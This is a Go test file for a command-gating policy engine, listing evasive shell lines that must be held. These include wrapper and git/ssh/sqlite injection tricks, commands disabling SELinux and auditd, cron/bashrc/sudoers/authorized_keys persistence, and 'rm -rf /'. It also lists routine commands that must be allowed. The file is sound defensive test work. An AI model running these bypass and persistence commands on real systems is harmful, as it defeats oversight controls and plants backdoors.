package policy

import (
	"encoding/json"
	"strings"
	"testing"
)

// Issue 18: each attack the issue lists must be held (with the action named
// where the line shows it), and each harmless line it lists must pass.

func TestIssue18Held(t *testing.T) {
	p := shippedPolicy(t)
	const P = "4242"
	cases := []struct {
		class, line string
		action      string // an action that must be named ("" = any hold)
	}{
		// 1. Programs that run their argv but were in no list.
		{"runner", "ip netns exec ns1 kill " + P, kp},
		{"runner", "ip -n ns1 netns exec ns1 kill " + P, kp},
		{"runner", "prlimit --nofile=10 kill " + P, kp},
		{"runner", "setarch x86_64 kill " + P, kp},
		{"runner", "linux64 kill " + P, kp},
		{"runner", "capsh -- -c 'kill " + P + "'", ""},
		{"runner", "pkexec kill " + P, kp},
		{"runner", "runcon -t unconfined_t kill " + P, kp},
		{"runner", "numactl --cpunodebind=0 kill " + P, kp},
		{"runner", "cgexec -g cpu:/ kill " + P, kp},
		{"runner", "systemd-nspawn -D /srv/c kill " + P, kp},
		{"runner", "firejail --quiet kill " + P, kp},
		{"runner", "bwrap --bind / / kill " + P, ""},
		{"runner", "gosu root kill " + P, kp},
		{"runner", "valgrind --tool=none kill " + P, kp},
		{"runner", "start-stop-daemon --start --exec /bin/kill -- " + P, ""},
		{"runner", "start-stop-daemon --stop --pidfile /run/x.pid", kp},
		{"runner", "chronic kill " + P, kp},
		{"runner", "ifne kill " + P, kp},
		{"runner", "logsave /dev/null kill " + P, kp},
		{"runner", "fakeroot kill " + P, kp},
		{"runner", "dbus-run-session -- kill " + P, kp},
		{"runner", "perf stat kill " + P, kp},
		{"runner", "perf record -g -- kill " + P, kp},
		{"runner", "ssh-agent kill " + P, kp},
		{"runner", "choom -n 0 -- kill " + P, kp},
		{"unknown", "someprog kill " + P, kp},
		{"unknown", "someprog -x 'pkill -f w'", kp},
		{"unknown", "someprog --run=/bin/kill " + P, ""},
		{"unknown", "/usr/bin/someprog -- sh -c 'kill " + P + "'", kp},
		{"unknown", "someprog 'sh -c \"kill (\"'", ""},
		{"unknown", "someprog 'kill 1 (' x", kp},
		{"unknown", "someprog --eval 'db.x.find(); kill(1)'", kp},
		{"unknown", "someprog python3", ""},
		// 2. Wrappers fed their command from elsewhere.
		{"fed", "xargs -L1 sudo < /tmp/cmds", ""},
		{"fed", "echo kill " + P + " | xargs -L1 sudo", ""},
		{"fed", "xargs -a /tmp/cmds -L1 env", ""},
		{"fed", "xargs -L1 nohup < /tmp/cmds", ""},
		{"fed", "xargs -L1 nice < /tmp/cmds", ""},
		{"fed", "xargs -L1 timeout 5 < /tmp/cmds", ""},
		{"fed", "xargs -L1 setsid < /tmp/cmds", ""},
		{"fed", "xargs -L1 stdbuf -oL < /tmp/cmds", ""},
		{"fed", "xargs -L1 flock /tmp/l < /tmp/cmds", ""},
		{"fed", "xargs -L1 busybox < /tmp/cmds", ""},
		{"fed", "lvm < /tmp/cmds", ""},
		{"fed", "echo | sed 's/.*/kill " + P + "/e'", kp},
		{"fed", "sed -n '1e kill " + P + "' /etc/hostname", kp},
		{"fed", "sed -e p -e 'e kill " + P + "' /etc/hostname", kp},
		{"fed", "sed --expression='1e kill " + P + "' /etc/hostname", kp},
		{"fed", "sed -f /tmp/script.sed /etc/hostname", ""},
		{"fed", "sed 's/x/y/w /etc/cron.d/job' /tmp/in", ""},
		// 3. Grammars the matcher did not follow.
		{"grammar", "btrfs sub del /mnt/s", ds},
		{"grammar", "btrfs su d /mnt/s", ds},
		{"grammar", "btrfs subvol delete /mnt/s", ds},
		{"grammar", "fuser -k 80/tcp", kp},
		{"grammar", "fuser -vkm /mnt", kp},
		{"grammar", "loginctl kill-user bob", kp},
		{"grammar", "loginctl kill-session 3", kp},
		{"grammar", "loginctl terminate-user bob", kp},
		{"grammar", "loginctl terminate-session 3", kp},
		{"grammar", "snapper delete 42", ds},
		{"grammar", "snapper -c home rm 4-7", ds},
		{"grammar", "zfs program tank /tmp/destroy.lua", ds},
		{"grammar", "setenforce 0", dh},
		{"grammar", "setenforce Permissive", dh},
		{"grammar", "echo 0 > /sys/fs/selinux/enforce", dh},
		{"grammar", "systemctl stop auditd", dh},
		{"grammar", "systemctl mask --now apparmor.service", dh},
		{"grammar", "systemctl disable --now nginx auditd", dh},
		{"grammar", "service auditd stop", dh},
		{"grammar", "auditctl -e 0", dh},
		{"grammar", "aa-teardown", dh},
		{"grammar", "oscap xccdf eval --profile cis --remediate /usr/share/xml/scap/ssg/content/ssg-rhel9-ds.xml", ah},
		{"grammar", "oscap xccdf eval --fetch-remote-resources --profile cis ds.xml --remediate", ah},
		// Runners outside the list, from the attacker's report.
		{"attack", "git config alias.x '!kill " + P + "' && git x", ""},
		{"attack", "git x", ""},
		{"attack", "git ls-remote --upload-pack='kill " + P + "; false' /tmp", ""},
		{"attack", "git ls-remote /tmp --upload-pa='kill " + P + "'", ""},
		{"attack", "git fetch -u 'kill " + P + "' origin", ""},
		{"attack", "git -c core.pager='kill " + P + "' log", ""},
		{"attack", "git rebase -x 'kill " + P + "' HEAD~1", kp},
		{"attack", "git submodule foreach 'kill " + P + "'", kp},
		{"attack", "git bisect run kill " + P, kp},
		{"attack", "awk -W exec /tmp/x.awk", ""},
		{"attack", "mawk -W exec /tmp/x.awk", ""},
		{"attack", "sqlite3 :memory: '.shell kill " + P + "'", ""},
		{"attack", "sqlite3 :memory: '.system kill " + P + "'", ""},
		{"attack", "sqlite3 /tmp/db", ""},
		{"attack", "ssh -o PKCS11Provider=/tmp/x.so host uptime", ""},
		{"attack", "ssh -oSecurityKeyProvider=/tmp/x.so host uptime", ""},
		{"attack", "ssh -o 'KnownHostsCommand kill " + P + "' host uptime", ""},
		{"attack", "ssh -I /tmp/x.so host uptime", ""},
		{"attack", "scp -S /tmp/x a host:b", ""},
		{"attack", "rsync -e 'kill " + P + "' a host:b", kp},
		{"attack", "rsync -e 'ssh -o ProxyCommand=x' a host:b", ""},
		{"attack", "rsync --rsh='ssh -F /tmp/c' a host:b", ""},
		{"attack", "rsync -e \"$X\" a host:b", ""},
		{"attack", "docker run --rm --entrypoint /bin/sh alpine -c 'kill 1'", ""},
		{"attack", "docker run -it alpine sh", ""},
		{"attack", "docker run --rm -v /:/h alpine chroot /h kill " + P, kp},
		{"attack", "docker compose run --rm web kill " + P, kp},
		{"attack", "at -f /tmp/job now", ""},
		{"attack", "docker exec web kill " + P, kp},
		{"attack", "docker run --rm alpine kill " + P, ""},
		{"attack", "docker compose run web kill " + P, kp},
		{"attack", "docker container exec web kill " + P, ""},
		{"attack", "docker frobnicate", ""},
		{"attack", "kubectl exec -n web api -- kill " + P, kp},
		{"attack", "kubectl exec api -it -- sh", ""},
		{"attack", "kubectl run x --image=alpine -- kill 1", ""},
		{"attack", "kubectl foo", ""},
		{"attack", "kubectl $SUB", ""},
		{"attack", "git $SUB", ""},
		{"attack", "docker $SUB web kill 1", ""},
		{"attack", "crontab /tmp/jobs", ""},
		{"attack", "crontab -", ""},
		{"attack", "crontab -e", ""},
		{"attack", "run-parts /etc/cron.daily", ""},
		// GNU getopt long-option prefixes.
		{"getopt", "env --split-s='kill " + P + "'", kp},
		{"getopt", "env --split='kill " + P + "'", kp},
		{"getopt", "env --s='kill " + P + "'", kp},
		{"getopt", "env --s 'kill " + P + "'", kp},
		{"getopt", "tar --to-c='kill " + P + "' -xf /tmp/a.tar", ""},
		{"getopt", "tar -xf /tmp/a.tar --to-comm 'kill " + P + "'", ""},
		{"getopt", "sudo --us=root kill " + P, kp},
		// Assignments that are not identifiers.
		{"assign", "env A.B=1 kill " + P, kp},
		{"assign", "env 'BASH_FUNC_x%%=() { kill " + P + "; }' bash -c x", ""},
		{"assign", "sudo FOO=1 kill " + P, kp},
		{"assign", "sudo FOO=1 A.B=2 kill " + P, kp},
		{"assign", "doas FOO=1 kill " + P, kp},
		{"assign", "A.B=1 kill " + P, kp},
		{"assign", "sudo LD_PRELOAD=/tmp/x.so ls", ""},
		// Bash evaluating code at run time.
		{"runtime", "z=$x$y; : $((z))", ""},
		{"runtime", "printf -v z %s \"$1\"; : $((z))", ""},
		{"runtime", "read -r x; : $((x))", ""},
		{"runtime", "read -r x; [[ $x -eq 1 ]]", ""},
		{"runtime", "read -r x; echo ${a[x]}", ""},
		{"runtime", "read -r x; echo ${s:x}", ""},
		{"runtime", "x=$(cat /tmp/f); echo $((x + 1))", ""},
		{"runtime", "echo $(( $(cat /tmp/f) ))", ""},
		{"runtime", "let x=y", ""},
		{"runtime", ": $((LC_X + 1))", ""},
		{"runtime", "echo $((z)); z=1", ""},
		{"runtime", "((y = x + 1))", ""},
		{"runtime", "echo ${x@P}", ""},
		{"runtime", "x='$(kill " + P + ")'; echo ${x@P}", ""},
		{"runtime", "echo ${BASH_CMDS[ls]:=/bin/kill}; ls " + P, ""},
		{"runtime", "builtin declare -n r=BASH_CMDS; r[ls]=/bin/kill; ls " + P, ""},
		{"runtime", "declare -n r=BASH_CMDS", ""},
		{"runtime", "typeset -n r=PATH", ""},
		// Naming the right action.
		{"name", "${X:-kill} " + P, kp},
		{"name", "\"${X:-kill}\" " + P, kp},
		{"name", "c=kill; $c " + P, kp},
		// Values that only look set: each must stay unresolved.
		{"bind", "c=ls; trap 'c=kill' DEBUG; $c " + P, ""},
		{"bind", "c=ls; read c; $c " + P, ""},
		{"bind", "c=ls; printf -v c kill; $c " + P, ""},
		{"bind", "c=ls; f() { c=kill; }; f; $c " + P, ""},
		{"bind", "unset c; : ${c:=kill}; $c " + P, ""},
		{"bind", "c=ls; eval c=kill; $c " + P, ""},
		{"bind", "$c " + P + "; c=ls", ""},
		{"bind", "for c in ls; do c=kill; $c " + P + "; done", ""},
		{"bind", "for c in ls; do read c; $c " + P + "; done", ""},
		{"bind", "c=ls; declare -n r=c; r=kill; $c " + P, ""},
		{"bind", "bash -c 'shift; $0 " + P + "' ls kill", ""},
		{"bind", "c=ls; printf -vc kill; $c " + P, ""},
		{"bind", "c=ls; printf -v c kill; $c " + P, ""},
		{"bind", "c=ls; ((c=5)); $c " + P, ""},
		{"bind", "c=ls; (( c += 1 )); $c " + P, ""},
		{"bind", "c=ls; a=(c); declare -n r=${a[0]}; $c " + P, ""},
		{"name", "/usr/bin/k?ll " + P, kp},
		{"name", "/usr/bin/[k]ill " + P, kp},
		{"name", "bash <<< 'kill " + P + "'", kp},
		{"name", "sh <<EOF\nkill " + P + "\nEOF", kp},
		{"name", "bash -c '\"$0\" 1' kill", kp},
		{"name", "sh -c '$0 $1' kill " + P, kp},
		{"name", "for c in ls kill; do $c " + P + "; done", kp},
		{"name", "echo 'kill " + P + "' | sh", kp},
		{"name", "python3 -c 'import os; os.kill(" + P + ", 9)'", kp},
		// Persistence.
		{"persist", "sed -i '1i kill " + P + "' ~/.bashrc", ""},
		{"persist", "sed -i.bak '1i kill " + P + "' /root/.bashrc", ""},
		{"persist", "echo 'kill " + P + "' >> ~/.bashrc", ""},
		{"persist", "echo 'kill " + P + "' >> $HOME/.profile", ""},
		{"persist", "echo 'kill " + P + "' > ~/.bashrc.d/k.sh", ""},
		{"persist", "cp /tmp/k /root/.bashrc.d/", ""},
		{"persist", "echo x | tee -a /etc/profile.d/x.sh", ""},
		{"persist", "echo '* * * * * root kill 1' > /etc/cron.d/k", ""},
		{"persist", "cp /tmp/k /etc/cron.hourly/", ""},
		{"persist", "mv /tmp/k.service /etc/systemd/system/", ""},
		{"persist", "ln -s /tmp/k /etc/cron.daily/k", ""},
		{"persist", "install -m 0440 /tmp/s /etc/sudoers.d/s", ""},
		{"persist", "cp /tmp/k -t /etc/cron.d", ""},
		{"persist", "scp -t /etc/cron.d/", ""},
		{"persist", "scp /tmp/k web1:/etc/cron.hourly/k", ""},
		{"persist", "curl -o ~/.ssh/authorized_keys http://x/k", ""},
		{"persist", "dd of=/etc/ld.so.preload", ""},
		{"persist", "echo x > /home/bob/.config/autostart/x.desktop", ""},
		{"persist", "echo '[alias] x = !kill 1' >> .git/config", ""},
		{"persist", "cat > .git/hooks/post-merge", ""},
		{"persist", "echo x > \"$f\"", ""},
		{"persist", "echo x > $D/job", ""},
		{"persist", "echo x > /etc/cron.d/$NAME", ""},
		{"persist", "echo x > ~/.bash$X", ""},
		{"persist", "cd /etc/cron.d && echo '* * * * * root kill 1' > job", ""},
		{"persist", "cd /etc/systemd/system; cp /tmp/k.service .", ""},
		{"persist", "cd \"$D\" && tee job < /tmp/x", ""},
		{"persist", "cd /etc; echo x > cron.d/job", ""},
		{"persist", "cd /etc && cd cron.d && echo x > job", ""},
		{"persist", "cd ~/.ssh && cat k.pub >> authorized_keys", ""},
		{"persist", "cd; echo 'kill 1' >> .bashrc", ""},
		{"persist", "tar czf /etc/cron.d/x /tmp", ""},
		{"persist", "tar xzf /tmp/a.tgz -C /etc/cron.d", ""},
		{"persist", "git log -1 --output=/etc/cron.d/x", ""},
		{"unknown", "someprog --cmd='kill 1'", kp},
		{"unknown", "someprog --cmd='ls; rm -rf /'", ""},
		// Literal-first words: a word that may split into several is still
		// not trusted.
		{"literal", "tar czf /tmp/x$(echo ' --to-command=kill') /etc", ""},
		{"literal", "tar czf /tmp/x$Y /etc", ""},
		{"literal", "tar czf /tmp/x-$(date '+%F --to-command=kill') /etc", ""},
		{"literal", "sudo /tmp/x$(date +%F) " + P, ""},
		{"literal", "tar czf /tmp/x$(date +%n--to-command=kill) /etc", ""},
		{"literal", "tar czf /tmp/x$(date +%_t--to-command=kill) /etc", ""},
		{"name", "exec 3< /tmp/cmds; bash <<< 'ls' 0<&3", ""},
		{"name", "bash <<< 'ls' < /tmp/cmds", ""},
		// kill -0 probes another user's process: still held.
		{"harmless", "kill -0 " + P, kp},
		{"harmless", "kill -9 " + P + " -l", kp},
		{"harmless", "kill -l; kill " + P, kp},
	}
	for _, c := range cases {
		d := p.Decide(Input{Command: c.line})
		if d.Verdict == Allow {
			t.Errorf("%s: %q allowed; want held", c.class, c.line)
			continue
		}
		if c.action == "" {
			continue
		}
		named := false
		for _, a := range d.Actions {
			named = named || a.Name == c.action
		}
		if !named {
			t.Errorf("%s: %q held without naming %s:\n%s", c.class, c.line, c.action, d.Message())
		}
	}
}

func TestIssue18Allowed(t *testing.T) {
	p := shippedPolicy(t)
	for _, line := range []string{
		"docker ps", "docker logs --tail 100 web", "docker inspect web", "docker images",
		"docker exec web cat /etc/resolv.conf", "docker compose ps",
		"kubectl get pods -A", "kubectl describe pod api", "kubectl logs -n web deploy/api",
		"kubectl exec -n web api -- cat /etc/hosts",
		"crontab -l", "crontab -l -u app", "run-parts --test /etc/cron.daily", "run-parts --list /etc/cron.daily",
		"kill -l", "kill -L", "killall -l", "pkill --version", "kill --help",
		"btrfs subvolume snapshot -r /home /home/.snap/pre", "btrfs sub list /", "btrfs fi df /",
		"tar czf /tmp/etc-$(date +%F).tgz /etc",
		"tar czf \"/tmp/etc-$(hostname).tgz\" /etc",
		"for h in web1 web2; do ssh \"$h\" uptime; done",
		"for h in web{1..3}; do ssh $h 'df -h /'; done",
		"runuser -u app -- ls", "sudo -u app ls /srv",
		"grep -r sudo /etc/sudoers.d", "man kill", "which python3", "apt-cache policy sudo",
		"systemctl status auditd", "journalctl -u auditd -o json", "snapper list", "zfs list -t snapshot",
		"sed -n 1p /etc/hostname", "sed -e 's/#.*//' -e '/^$/d' /etc/fstab", "sed -n '/^\\[x\\]/,/^\\[/p' /etc/x.ini",
		"sed -i 's/a/b/' /tmp/x.conf", "echo hi > /tmp/out.txt", "cp /etc/fstab /tmp/fstab.$(date +%F)",
		"for i in 1 2 3; do echo $((i * 2)); done", "n=5; echo $((n + 1))", "for ((i=0; i<3; i++)); do echo $i; done",
		"echo $((RANDOM % 10))", "echo ${#PATH}", "git log --oneline -5", "git -C /etc status",
		"git config --get remote.origin.url", "env TZ=UTC date", "sqlite3 /tmp/db 'select 1'",
		"xargs -a /tmp/hosts -n1 ping -c1", "ls | xargs wc -l", "auditctl -l", "aa-status", "getenforce",
		"oscap xccdf eval --profile cis --results /tmp/r.xml ds.xml", "fuser -v /mnt", "loginctl list-sessions",
		"rsync -avz -e 'ssh -p 2222' /srv/ backup:/srv/", "rsync -a --rsh=ssh /a b:/c", "docker run --rm alpine cat /etc/os-release",
		"docker run -d --name web -p 80:80 nginx", "docker compose up -d", "docker compose restart web", "at -l", "atq",
		"ssh-keyscan web1 >> ~/.ssh/known_hosts", "brew install python",
		"for pod in $(kubectl get pods -o name); do kubectl logs $pod --tail=5; done", "alias k=kubectl", "docker", "git",
		"someprog --list", "someprog /var/log/syslog", "cd /var/log && grep -c error syslog > /tmp/n",
		"cd /tmp && echo x > out.txt", "tar czf /tmp/a.tgz -C /etc nginx", "cd /etc && tar czf /tmp/etc.tgz .", "cd /srv/app/$(date +%F) && ls", "mongosh --eval 'db.x.find()'",
		"update-alternatives --display python", "python3 --version", "java -version", "node --version",
	} {
		if d := p.Decide(Input{Command: line}); d.Verdict != Allow {
			t.Errorf("%q = %v; want allow\n%s", line, d.Verdict, d.Message())
		}
	}
}

// TestUnknownWhy: the message for an unknown program tells the author how
// to declare it.
func TestUnknownWhy(t *testing.T) {
	p := shippedPolicy(t)
	m := p.Decide(Input{Command: "someprog kill 1"}).Message()
	for _, want := range []string{"someprog is in no list", "wrappers:", "inert:"} {
		if !strings.Contains(m, want) {
			t.Errorf("Message() = %q; want it to contain %q", m, want)
		}
	}
}

// TestWhyBounded: a 258 KB line of nested $(...) (issue 16) is held with a
// short why, not hundreds of copies of itself.
func TestWhyBounded(t *testing.T) {
	p := shippedPolicy(t)
	const depth = 20000
	line := "echo " + strings.Repeat("$(echo ", depth) + "x" + strings.Repeat(")", depth) + "; " +
		strings.Repeat("kill 1; $X; ", 6000)
	if len(line) < 200_000 {
		t.Fatalf("line is %d bytes; want a big one", len(line))
	}
	d := p.Decide(Input{Command: line})
	if d.Verdict == Allow {
		t.Fatalf("allowed")
	}
	b, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Why) > maxWhy {
		t.Errorf("%d why entries; want at most %d", len(d.Why), maxWhy)
	}
	if len(b) > 64<<10 {
		t.Errorf("decision is %d bytes of JSON; want at most 64 KiB", len(b))
	}
	for _, m := range d.Why {
		for _, w := range m.Words {
			if len(w.Text) > maxWordText+3 {
				t.Errorf("word text of %d bytes; want it cut to %d", len(w.Text), maxWordText)
			}
			if w.Offset < 0 || w.End > len(line) || w.Offset > w.End {
				t.Errorf("word %+v outside the line", w)
			}
		}
	}
}
